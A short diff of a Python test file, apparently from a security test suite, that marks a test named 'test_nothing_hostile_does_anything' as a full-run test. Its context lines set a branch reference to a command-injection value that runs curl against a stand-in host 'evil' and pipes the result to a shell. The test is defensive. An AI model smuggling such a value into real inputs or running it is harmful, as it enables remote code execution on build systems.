@@ -146,6 +146,7 @@ def hostile_names(stage: Stage) -> list[Finding]:
     ]
 
 
+@pytest.mark.full
 def test_nothing_hostile_does_anything(stage: Stage) -> None:
     stage.state.title = stage.state.body = "".join(FRAGMENTS[:60])
     stage.state.head_ref = 'x";curl${IFS}evil|sh;"'
